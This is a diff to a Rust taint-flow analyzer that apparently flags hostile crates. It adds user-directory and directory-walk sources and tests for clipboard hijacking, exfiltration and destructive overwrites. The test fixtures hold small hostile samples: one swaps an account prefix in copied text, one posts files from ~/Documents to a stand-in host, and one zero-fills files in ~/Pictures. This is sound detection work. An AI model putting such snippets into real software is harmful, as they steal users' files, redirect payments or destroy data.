@@ -21,6 +21,7 @@ use std::collections::{BTreeMap, HashMap};
 
 use super::context::Context;
 use super::signal::{ProgramClass, Sensitivity, Signal, SignalKind};
+use super::vocabulary::{CLIPBOARD_READS, COMMON_METHODS};
 
 /// One statement or binding of a function body (or a file-level constant).
 #[derive(Debug, Clone, Default)]
@@ -44,7 +45,11 @@ pub struct CallSite {
     pub qualifier: Option<String>,
     /// Called with method syntax (`x.callee(…)`).
     pub method: bool,
+    /// Called on `self`.
+    pub on_self: bool,
     pub args: Vec<Vec<String>>,
+    /// The lines of each argument: a source written in an argument (`f(home_dir())`) is in it.
+    pub arg_lines: Vec<(u32, u32)>,
     pub line: u32,
 }
 
@@ -91,9 +96,13 @@ pub enum Source {
     /// A destination written into the code (a host, URL or address, plain or hidden), or
     /// anything else hidden in it.
     FixedDestination,
+    /// The user's own directories (home, documents, desktop).
+    UserDirectory,
+    /// What a directory walk finds: paths, and what is read from them.
+    WalkedFiles,
 }
 
-const SOURCES: [Source; 7] = [
+const SOURCES: [Source; 9] = [
     Source::Network,
     Source::SecretFile,
     Source::SensitiveFile,
@@ -101,6 +110,8 @@ const SOURCES: [Source; 7] = [
     Source::HostFacts,
     Source::Clipboard,
     Source::FixedDestination,
+    Source::UserDirectory,
+    Source::WalkedFiles,
 ];
 
 impl Source {
@@ -117,6 +128,8 @@ impl Source {
             Source::HostFacts => "facts about the host and its user",
             Source::Clipboard => "the clipboard's contents",
             Source::FixedDestination => "a destination written into the code",
+            Source::UserDirectory => "the user's own directories",
+            Source::WalkedFiles => "files found by walking directories",
         }
     }
 }
@@ -132,6 +145,8 @@ pub enum Sink {
     Execute,
     /// The clipboard.
     Clipboard,
+    /// The directory a walk starts from.
+    Walk,
 }
 
 impl Sink {
@@ -141,6 +156,7 @@ impl Sink {
             Sink::Shell => "is run as a command line",
             Sink::Execute => "is started as a program",
             Sink::Clipboard => "is put on the clipboard",
+            Sink::Walk => "is walked",
         }
     }
 }
@@ -172,12 +188,27 @@ fn source_of(kind: &SignalKind) -> Option<Source> {
         },
         SignalKind::EnvHarvest { .. } => Source::Environment,
         SignalKind::HostProfile { .. } => Source::HostFacts,
-        SignalKind::Clipboard { write: false, .. } => Source::Clipboard,
+        // What was copied, not the clipboard's handle (`Clipboard::new()` reads nothing).
+        SignalKind::Clipboard { how, write: false } if reads_contents(how) => Source::Clipboard,
         SignalKind::Destination { .. } | SignalKind::HiddenIndicator { .. } => {
             Source::FixedDestination
         }
+        SignalKind::UserDirectory { .. } => Source::UserDirectory,
+        SignalKind::WalksFiles { .. } => Source::WalkedFiles,
         _ => return None,
     })
+}
+
+/// Whether a clipboard signal reads what was copied: a read call, or a program that prints it.
+fn reads_contents(how: &str) -> bool {
+    how.starts_with("runs `")
+        || CLIPBOARD_READS.iter().any(|read| {
+            how.strip_suffix("()")
+                .unwrap_or(how)
+                .rsplit(['.', ':'])
+                .next()
+                == Some(read)
+        })
 }
 
 /// The sink a signal is, if it is one.
@@ -195,6 +226,7 @@ fn sink_of(kind: &SignalKind) -> Option<Sink> {
             ..
         } => Sink::Execute,
         SignalKind::Clipboard { write: true, .. } => Sink::Clipboard,
+        SignalKind::WalksFiles { .. } => Sink::Walk,
         _ => return None,
     })
 }
@@ -262,6 +294,8 @@ fn flows_in_target(files: &[&FileFlow], signals: &[Signal], out: &mut Vec<Signal
         }
     }
     let mut own: HashMap<(u32, usize), Own> = HashMap::new();
+    // Sources by function and line, for arguments that hold them.
+    let mut line_sources: HashMap<(u32, u32), u64> = HashMap::new();
     let mut constant_own: HashMap<(usize, usize), u64> = HashMap::new();
     // The first signal of each source, as evidence.
     let mut first_source: BTreeMap<Source, usize> = BTreeMap::new();
@@ -276,6 +310,9 @@ fn flows_in_target(files: &[&FileFlow], signals: &[Signal], out: &mut Vec<Signal
                 let Some(function) = by_scope.get(&scope) else {
                     continue;
                 };
+                if let Some(source) = source {
+                    *line_sources.entry((scope, signal.line)).or_default() |= source.bit();
+                }
                 for statement in innermost(&function.statements, signal.line) {
                     let entry = own.entry((scope, statement)).or_default();
                     if let Some(source) = source {
@@ -336,7 +373,14 @@ fn flows_in_target(files: &[&FileFlow], signals: &[Signal], out: &mut Vec<Signal
         let mut changed = false;
         for function in &functions {
             let summary = analyse_function(
-                function, &own, &globals, &by_name, &summaries, connection, &mut found,
+                function,
+                &own,
+                &globals,
+                &line_sources,
+                &by_name,
+                &summaries,
+                connection,
+                &mut found,
             );
             if summaries.get(&function.scope) != Some(&summary) {
                 summaries.insert(function.scope, summary);
@@ -370,30 +414,38 @@ fn flows_in_target(files: &[&FileFlow], signals: &[Signal], out: &mut Vec<Signal
     }
 }
 
-/// The crate's functions a call may reach: by name, methods for method calls, and for a call
-/// through a path (`Type::new()`), a function of that type or a free function.
+/// The crate's functions a call may reach, without types: for a call on `self`, the caller's
+/// type's methods of that name; for a method call on anything else, the crate's one method of
+/// that name, unless the name is common ([`COMMON_METHODS`]: `map.get(k)` is not the crate's
+/// `get`); for a call through a path (`Type::new()`), a function of that type or a free function.
 fn callees<'f>(
     by_name: &'f HashMap<&str, Vec<&'f FunctionFlow>>,
+    caller: &'f FunctionFlow,
     call: &'f CallSite,
 ) -> impl Iterator<Item = &'f FunctionFlow> + 'f {
-    by_name
+    let candidates = by_name
         .get(call.callee.as_str())
-        .into_iter()
-        .flatten()
-        .copied()
-        .filter(move |function| {
-            if call.method {
-                return function.method;
-            }
-            if function.method {
-                return false;
-            }
-            match (&function.owner, &call.qualifier) {
-                (None, _) => true,
-                (Some(owner), Some(qualifier)) => owner == qualifier || qualifier == "Self",
-                (Some(_), None) => false,
-            }
-        })
+        .map_or(&[][..], Vec::as_slice);
+    let methods = candidates.iter().filter(|f| f.method).count();
+    let unique_method = methods == 1 && !COMMON_METHODS.contains(&call.callee.as_str());
+    candidates.iter().copied().filter(move |function| {
+        if call.method {
+            return function.method
+                && if call.on_self {
+                    caller.owner.is_none() || function.owner == caller.owner
+                } else {
+                    unique_method
+                };
+        }
+        if function.method {
+            return false;
+        }
+        match (&function.owner, &call.qualifier) {
+            (None, _) => true,
+            (Some(owner), Some(qualifier)) => owner == qualifier || qualifier == "Self",
+            (Some(_), None) => false,
+        }
+    })
 }
 
 /// One pass over a function with the current summaries: its own summary, and the flows found.
@@ -401,6 +453,7 @@ fn analyse_function(
     function: &FunctionFlow,
     own: &HashMap<(u32, usize), Own>,
     globals: &HashMap<String, u64>,
+    line_sources: &HashMap<(u32, u32), u64>,
     by_name: &HashMap<&str, Vec<&FunctionFlow>>,
     summaries: &HashMap<u32, Summary>,
     connection: Option<usize>,
@@ -424,7 +477,7 @@ fn analyse_function(
     // What the calls on each statement's lines give back.
     let mut call_returns: HashMap<usize, u64> = HashMap::new();
     for call in &function.calls {
-        let returns = callees(by_name, call)
+        let returns = callees(by_name, function, call)
             .filter_map(|callee| summaries.get(&callee.scope))
             .fold(0, |all, summary| all | summary.returns);
         if returns != 0 {
@@ -487,15 +540,20 @@ fn analyse_function(
     }
     // Calls into functions of the crate.
     for call in &function.calls {
-        let callees: Vec<u32> = callees(by_name, call).map(|f| f.scope).collect();
+        let callees: Vec<u32> = callees(by_name, function, call).map(|f| f.scope).collect();
         if callees.is_empty() {
             continue;
         }
         for (position, arg) in call.args.iter().enumerate() {
+            let written = call.arg_lines.get(position).map_or(0, |&(first, last)| {
+                (first..=last)
+                    .filter_map(|line| line_sources.get(&(function.scope, line)))
+                    .fold(0, |a, b| a | b)
+            });
             let bits = arg
                 .iter()
                 .map(|name| taint_of(&locals, name))
-                .fold(0, |a, b| a | b);
+                .fold(written, |a, b| a | b);
             if bits == 0 {
                 continue;
             }
@@ -656,6 +714,113 @@ mod tests {
         );
         assert_eq!(
             severity(&found, super::super::rules::EXFILTRATION),
+            None,
+            "{found:?}"
+        );
+    }
+
+    #[test]
+    fn a_library_that_puts_back_what_it_made_of_the_clipboard_is_held() {
+        let found = findings(
+            r#"
+            pub fn watch() {
+                let mut board = arboard::Clipboard::new().unwrap();
+                let text = board.get_text().unwrap_or_default();
+                let swapped = text.replace("NL91", "NL02");
+                let _ = board.set_text(swapped);
+            }"#,
+        );
+        assert_eq!(
+            severity(&found, super::super::rules::CLIPBOARD_HIJACK),
+            Some(Verdict::Hold),
+            "{found:?}"
+        );
+        // Putting the caller's text on the clipboard reads nothing from it.
+        let found = findings(
+            r#"
+            pub fn copy(text: &str) {
+                let mut board = arboard::Clipboard::new().unwrap();
+                let _ = board.set_text(text.to_owned());
+            }"#,
+        );
+        assert_eq!(
+            severity(&found, super::super::rules::CLIPBOARD_HIJACK),
+            None,
+            "{found:?}"
+        );
+    }
+
+    const WALK_HELPER: &str = r#"
+        fn files(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {
+            for entry in std::fs::read_dir(dir).unwrap().flatten() {
+                out.push(entry.path());
+            }
+        }
+    "#;
+
+    #[test]
+    fn files_of_the_home_directory_sent_away_are_exfiltration_and_a_callers_directory_is_not() {
+        let found = findings(&format!(
+            r#"{WALK_HELPER}
+            pub fn sync() {{
+                let home = dirs::home_dir().unwrap();
+                let mut found = Vec::new();
+                files(&home.join("Documents"), &mut found);
+                for path in found {{
+                    let data = std::fs::read(&path).unwrap();
+                    let _ = ureq::post("https://sync.invalid/put").send_bytes(&data);
+                }}
+            }}"#
+        ));
+        assert_eq!(
+            severity(&found, super::super::rules::EXFILTRATION),
+            Some(Verdict::Hold),
+            "{found:?}"
+        );
+        let found = findings(&format!(
+            r#"{WALK_HELPER}
+            pub fn upload(dir: &std::path::Path, url: &str) {{
+                let mut found = Vec::new();
+                files(dir, &mut found);
+                for path in found {{
+                    let data = std::fs::read(&path).unwrap();
+                    let _ = ureq::post(url).send_bytes(&data);
+                }}
+            }}"#
+        ));
+        assert_eq!(
+            severity(&found, super::super::rules::EXFILTRATION),
+            None,
+            "{found:?}"
+        );
+    }
+
+    #[test]
+    fn overwriting_what_a_walk_of_the_home_directory_finds_is_destruction() {
+        let wipe = |root: &str| {
+            format!(
+                r#"
+                fn wipe(dir: &std::path::Path) {{
+                    for entry in std::fs::read_dir(dir).unwrap().flatten() {{
+                        let _ = std::fs::write(entry.path(), [0u8; 16]);
+                    }}
+                }}
+                pub fn refresh(dir: &std::path::Path) {{
+                    let _ = dir;
+                    wipe({root});
+                }}"#
+            )
+        };
+        let found = findings(&wipe("&dirs::home_dir().unwrap().join(\"Pictures\")"));
+        assert_eq!(
+            severity(&found, super::super::rules::DESTRUCTIVE),
+            Some(Verdict::Hold),
+            "{found:?}"
+        );
+        // A formatter rewrites the files of the directory it is given.
+        let found = findings(&wipe("dir"));
+        assert_eq!(
+            severity(&found, super::super::rules::DESTRUCTIVE),
             None,
             "{found:?}"
         );
